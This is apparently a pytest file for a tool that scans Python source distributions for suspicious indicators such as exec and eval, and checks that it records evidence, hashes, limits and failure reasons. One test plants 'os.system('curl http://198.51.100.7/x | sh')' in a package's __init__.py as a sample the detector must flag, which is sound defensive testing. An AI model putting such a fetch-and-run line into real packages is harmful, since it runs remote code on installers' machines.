import hashlib
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from features.completeness import Completeness, completeness_of_row
from features.contract import (
    Column,
    Dtype,
    Evidence,
    GroupRow,
    HostKind,
    HostUse,
    Kind,
    Mark,
    Release,
    Requirement,
    Role,
    Status,
)
from features.evidence_selection import select_diverse_evidence
from features.extract import MAX_EVIDENCE, MOST_REQUIRED, extract_row
from features.host_list import MOST_HOSTS, HostRank
from features.limits import Limits
from features.place_keys import place_key


@dataclass(frozen=True)
class Counting:
    name: str = "counting"
    version: str = "1"
    columns: tuple[Column, ...] = (Column("counting_members", Dtype.INT32, "its members"),)
    row: GroupRow = field(default_factory=lambda: GroupRow({}))

    def extract(self, release: Release) -> GroupRow:
        return replace(self.row, values={"counting_members": len(release.members)})


@dataclass(frozen=True)
class Failing(Counting):
    name: str = "failing"
    columns: tuple[Column, ...] = (Column("failing_members", Dtype.INT32, "its members"),)

    def extract(self, release: Release) -> GroupRow:
        raise RecursionError("too deep")


def place(indicator: str, weight: float, line: int = 1, excerpt: str = "x") -> Evidence:
    return Evidence("a.py", line, indicator, Role.REST, excerpt, weight)


def test_a_row(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n", "demo/__init__.py": "pass\n", "run.sh": "echo\n", "README": "text"})
    group = Counting(row=GroupRow({}, (place("exec", 2.0),), (7, 3, 7), ()))
    row = extract_row(path, path.name, Limits(), (group,))
    assert (Status.OK, "", Kind.SDIST) == (row.status, row.reason, row.kind)
    assert row.values == {"counting_members": 5}
    assert row.tokens == (3, 7)
    assert [(place("exec", 2.0), "")] == [(replace(at, context_line=0), at.context) for at in row.evidence]
    assert [place_key("exec", "x")] == list(row.place_keys)
    assert row.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert row.blake2b_256 == hashlib.blake2b(path.read_bytes(), digest_size=32).hexdigest()
    paths = ["README", "PKG-INFO", "demo/__init__.py", "run.sh", "setup.py"]
    assert sorted(f"demo-1.0/{path}" for path in paths) == [member.path for member in row.members]
    assert row.members[-1].digest == row.members[-3].digest


def test_requirements_are_bounded(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n"})
    needed = tuple(Requirement(f"p{number:03}") for number in range(MOST_REQUIRED + 1))
    row = extract_row(path, path.name, Limits(), (Counting(row=GroupRow({}, requires=needed[::-1])),))
    assert row.requires == needed[:-1]


def test_hosts_are_bounded_which_is_said_and_leaves_the_row_whole(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n"})
    hosts = [HostUse(f"h{number}.example", HostKind.NAME, "a.py", 1, Role.REST, 1) for number in range(MOST_HOSTS + 1)]
    ranked = [(HostRank.REST, host) for host in hosts]
    row = extract_row(path, path.name, Limits(), (Counting(row=GroupRow({}, hosts=ranked)),))
    assert tuple(hosts[:-1]) == row.hosts
    assert (Status.OK, "", ("listed_hosts",)) == (row.status, row.reason, row.limits)


def test_the_keys_of_places_come_from_all_groups_the_heaviest_first(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n"})
    groups = (
        Counting(row=GroupRow({}, (place("exec", 2.0), place("exec", 2.0, 7)))),
        Counting(name="other", row=GroupRow({}, (place("eval", 3.0),), place_keys=((1.0, 7), (5.0, 9), (4.0, 7)))),
    )
    assert (9, 7, place_key("exec", "x")) == extract_row(path, path.name, Limits(), groups).place_keys


def test_a_member_has_the_marks_of_all_groups(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n", "b.py": "pass\n"})
    at = "demo-1.0/setup.py"
    groups = (
        Counting(row=GroupRow({}, (replace(place("eval_call", 2.0), member=at), replace(place("x", 1.0), member=at)))),
        Counting(name="other", row=GroupRow({}, marks={at: [Mark("eval_call", 2)]}, member_tokens={at: (7,)})),
    )
    row = extract_row(path, path.name, Limits(), groups)
    assert [((Mark("x", 1), Mark("eval_call", 3)), (7,))] == [(m.marks, m.tokens) for m in row.members if m.marks]


def test_a_limit_of_a_group_makes_the_row_partial(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n"})
    row = extract_row(path, path.name, Limits(), (Counting(row=GroupRow({}, limits=("syntax_bytes",))),))
    assert (Status.PARTIAL, ("syntax_bytes",)) == (row.status, row.limits)
    assert "syntax_bytes" in row.reason


def test_an_unreadable_file_has_no_values(tmp_path: Path) -> None:
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(b"")
    row = extract_row(path, path.name, Limits(), (Counting(),))
    assert (Status.UNREADABLE, "The file is empty.", {}) == (row.status, row.reason, row.values)
    assert not row.internal_error


def test_a_group_that_fails_costs_its_own_columns_and_a_reason(
    make_sdist: Callable[..., Path], caplog: pytest.LogCaptureFixture
) -> None:
    path = make_sdist({"setup.py": "pass\n"})
    row = extract_row(path, path.name, Limits(), (Failing(), Counting(row=GroupRow({}, (place("exec", 2.0),)))))
    assert row.status == Status.PARTIAL
    assert row.reason == "Examined in part; internal error in group failing: RecursionError: too deep."
    assert not row.internal_error
    assert {"failing_members": None, "counting_members": 2} == row.values
    assert ["exec"] == [at.indicator for at in row.evidence]
    assert Completeness.STOPPED == completeness_of_row(row)
    assert "group failing failed" in caplog.text


def test_the_log_of_a_parser_that_calls_itself_is_short(
    make_sdist: Callable[..., Path], caplog: pytest.LogCaptureFixture
) -> None:
    def one(left: int) -> int:
        return other(left)

    def other(left: int) -> int:
        return one(left)

    class Deep(Counting):
        def extract(self, release: Release) -> GroupRow:
            return GroupRow({"counting_members": one(9)})

    path = make_sdist({"setup.py": "pass\n"})
    assert extract_row(path, path.name, Limits(), (Deep(),)).reason.startswith(
        "Examined in part; internal error in group"
    )
    assert 5_000 > len(caplog.text)


@pytest.mark.parametrize(
    "files",
    [
        {"PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: a; {}\n"},
        {"demo.egg-info/requires.txt": "a; {}\n"},
        {"pyproject.toml": '[project]\nname = "demo"\nversion = "1.0"\ndependencies = ["a; {}"]\n'},
        {"pyproject.toml": '[build-system]\nrequires = ["a; {}"]\n'},
        {"pyproject.toml": "[build-system]\nrequires = {}\n"},
        {"setup.cfg": "[metadata]\nname = demo\n[options]\ninstall_requires =\n    a; {}\n"},
        {"setup.py": "from setuptools import setup\nsetup(name='demo', install_requires=['a; {}'])\n"},
        {"setup.py": "from setuptools import setup\nsetup(name='demo', install_requires={})\n"},
        {"demo/a.ipynb": "{}"},
        {"demo/a.json": "{}"},
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("bracket", ["(", "["])
def test_no_depth_of_brackets_takes_the_evidence_away(
    make_sdist: Callable[..., Path], files: dict[str, str], bracket: str
) -> None:
    deep = {path: text.format(bracket * 1_600) for path, text in files.items()}
    act = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
    path = make_sdist({"setup.py": "pass\n", **deep, "demo/__init__.py": act})
    row = extract_row(path, path.name, Limits())
    assert "internal error" not in row.reason
    assert "demo-1.0/demo/__init__.py" in {at.member for at in row.evidence}


def test_a_reader_that_fails_is_seen_and_counted(
    make_sdist: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: object) -> None:
        raise MemoryError

    monkeypatch.setattr("features.extract.open_release", fail)
    row = extract_row(make_sdist({}), "demo-1.0.tar.gz", Limits(), ())
    assert (Status.UNREADABLE, "internal error in the reader: MemoryError: ") == (row.status, row.reason)
    assert row.internal_error
    assert "failed" in caplog.text


def test_lists_that_fail_are_seen_and_counted(
    make_sdist: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: object) -> None:
        raise ValueError("bad")

    monkeypatch.setattr("features.extract.add_context", fail)
    path = make_sdist({"setup.py": "pass\n"})
    row = extract_row(path, path.name, Limits(), (Counting(),))
    assert (Status.UNREADABLE, "internal error in the row: ValueError: bad") == (row.status, row.reason)
    assert row.internal_error
    assert row.sha256
    assert "failed" in caplog.text


def test_a_reason_says_each_thing_once(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n" * 9_000, "data.7z": b"7z\xbc\xaf\x27\x1c" + bytes(60)})
    row = extract_row(path, path.name, Limits(member_bytes=9_000), (Counting(row=GroupRow({}, limits=("seconds",))),))
    assert ("member_bytes", "seconds") == row.limits
    assert row.reason == (
        "Examined in part; limits reached: member_bytes, seconds; members not examined whole: 1 unread 7z."
    )


def test_evidence_begins_with_the_heaviest_and_says_nothing_again_and_again() -> None:
    places = [place("a", 1.0, line) for line in range(10)] + [place("b", 5.0, 2), place("b", 5.0, 1)]
    chosen = select_diverse_evidence(places, MAX_EVIDENCE)
    assert [("b", 1), ("a", 0), ("b", 2), ("a", 1), ("a", 2)] == [(at.indicator, at.line) for at in chosen]
    assert chosen == select_diverse_evidence(places[::-1], MAX_EVIDENCE)


def test_evidence_is_bounded(make_sdist: Callable[..., Path]) -> None:
    path = make_sdist({"setup.py": "pass\n"})
    places = tuple(place(str(at), 1.0, excerpt="y" * 999) for at in range(99))
    chosen = extract_row(path, path.name, Limits(), (Counting(row=GroupRow({}, places)),)).evidence
    assert len(chosen) == MAX_EVIDENCE
    assert {len(at.excerpt) for at in chosen} == {200}
